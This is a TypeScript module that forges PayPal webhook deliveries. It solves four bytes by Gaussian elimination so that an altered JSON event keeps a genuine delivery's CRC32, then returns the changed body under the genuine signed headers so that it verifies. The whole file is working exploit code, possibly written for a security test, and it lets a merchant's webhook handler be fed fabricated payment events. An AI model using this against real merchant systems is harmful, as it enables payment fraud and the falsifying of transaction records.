import { crc32 } from 'node:zlib';

/**
 * CRC32 forgery, as anyone holding one genuine PayPal delivery can do it: PayPal signs
 * `transmissionId|time|webhookId|CRC32(body)`, and CRC32 is affine over GF(2) in the bits of
 * the body, so 4 free bytes anywhere in a new body can be solved for to give it any CRC32
 * (here: the genuine body's), and the genuine headers then verify the new body too.
 */

/**
 * The 4 bytes X for which CRC32(prefix + X + suffix) is `target`. X ↦ CRC32(prefix + X + suffix)
 * is affine: CRC(X) = CRC(0) ^ L(X) with L linear, so L's 32 columns (one per bit of X) are
 * measured and L(X) = target ^ CRC(0) is solved by Gaussian elimination. L is invertible for 4
 * consecutive bytes (CRC32's generator has degree 32), so there is exactly one X.
 */
export function crc32Patch(prefix: Buffer, suffix: Buffer, target: number): Buffer {
  const crcWith = (x: number) => {
    const patch = Buffer.alloc(4);
    patch.writeUInt32LE(x >>> 0);
    return crc32(Buffer.concat([prefix, patch, suffix])) >>> 0;
  };
  const base = crcWith(0);
  // pivots[b]: a column combination whose highest set bit is b, and which bits of X make it.
  const pivots: ({ column: number; bits: number } | undefined)[] = new Array(32);
  for (let bit = 0; bit < 32; bit++) {
    let column = (crcWith((1 << bit) >>> 0) ^ base) >>> 0;
    let bits = (1 << bit) >>> 0;
    for (let b = 31; b >= 0 && column !== 0; b--) {
      if (!((column >>> b) & 1)) continue;
      const pivot = pivots[b];
      if (!pivot) {
        pivots[b] = { column, bits };
        column = 0;
        break;
      }
      column = (column ^ pivot.column) >>> 0;
      bits = (bits ^ pivot.bits) >>> 0;
    }
  }
  let want = (target ^ base) >>> 0;
  let x = 0;
  for (let b = 31; b >= 0 && want !== 0; b--) {
    if (!((want >>> b) & 1)) continue;
    const pivot = pivots[b];
    if (!pivot) throw new Error('CRC32 patch: no solution at this position');
    want = (want ^ pivot.column) >>> 0;
    x = (x ^ pivot.bits) >>> 0;
  }
  const patch = Buffer.alloc(4);
  patch.writeUInt32LE(x);
  return patch;
}

/** `body` with 4 bytes appended that give it the CRC32 `target` (not JSON any more). */
export function appendCrc32Patch(body: Buffer, target: number): Buffer {
  return Buffer.concat([body, crc32Patch(body, Buffer.alloc(0), target)]);
}

/** Bytes that may stand in a JSON string as they are: printable ASCII but `"` and `\`. */
function jsonSafe(bytes: Buffer): boolean {
  return bytes.every((b) => b >= 0x20 && b <= 0x7e && b !== 0x22 && b !== 0x5c);
}

/**
 * A body for `event` with the CRC32 `target`, still valid JSON: the event gets one more string
 * field (`padding`) holding a counter and the 4 solved bytes, the counter tried until those
 * bytes are printable (about one in 60).
 */
export function jsonWithCrc32(event: object, target: number): string {
  const json = JSON.stringify(event);
  if (!json.endsWith('}')) throw new Error('a JSON object is needed');
  const suffix = Buffer.from('"}');
  for (let counter = 0; counter < 100_000; counter++) {
    const prefix = Buffer.from(`${json.slice(0, -1)},"padding":"${counter}-`);
    const patch = crc32Patch(prefix, suffix, target);
    if (jsonSafe(patch)) {
      const body = Buffer.concat([prefix, patch, suffix]);
      if (crc32(body) >>> 0 !== target >>> 0) throw new Error('CRC32 patch does not hold');
      return body.toString('utf8');
    }
  }
  throw new Error('no printable CRC32 patch found');
}

export interface SignedDelivery {
  body: string;
  headers: Record<string, string>;
}

/**
 * A forged delivery: a genuine one's event changed by `change`, under the genuine headers (its
 * signature), with the genuine body's CRC32, so that PayPal's signature verifies it.
 */
export function forgeDelivery(
  genuine: SignedDelivery,
  change: (event: any) => void,
): SignedDelivery {
  const event = JSON.parse(genuine.body);
  change(event);
  const body = jsonWithCrc32(event, crc32(Buffer.from(genuine.body, 'utf8')));
  return { body, headers: genuine.headers };
}
